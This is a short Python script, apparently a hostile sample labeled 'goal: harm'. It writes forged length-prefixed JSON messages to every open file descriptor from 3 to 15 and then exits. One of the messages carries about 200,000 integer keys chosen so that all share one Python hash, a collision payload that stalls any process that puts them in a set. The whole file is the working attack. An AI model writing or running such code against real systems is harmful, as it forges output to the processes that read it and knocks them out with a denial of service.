# family: forge; goal: harm
# Two hundred thousand keys with one hash, for whoever makes a set of them.
import os


def send(*bodies):
    data = b"".join(len(body).to_bytes(4, "big") + body for body in bodies)
    for fd in range(3, 16):
        try:
            view = memoryview(data)
            while view:
                view = view[os.write(fd, view) :]
        except OSError:
            pass
    os._exit(0)


KEYS = b",".join(b'{"i":"%x"}' % (k * (2**61 - 1)) for k in range(1, 200_000))
send(b'{"v":null}', b'{"v":{"s":[' + KEYS + b"]}}")
